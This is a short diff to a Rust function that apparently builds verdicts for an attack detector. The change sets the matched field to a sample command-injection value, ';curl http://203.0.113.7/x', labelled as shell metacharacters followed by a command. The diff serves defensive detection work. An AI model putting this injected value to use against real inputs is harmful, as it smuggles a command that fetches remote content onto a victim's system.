@@ -158,7 +158,7 @@ pub(super) fn verdict(class: AttackClass, score: u8, indicators: Vec<Indicator>)
     Verdict {
         class,
         score,
-        matched: "matched".into(),
+        matched: ";curl http://203.0.113.7/x".into(),
         reason: "shell metacharacters followed by a command".into(),
         reference: None,
         indicators,
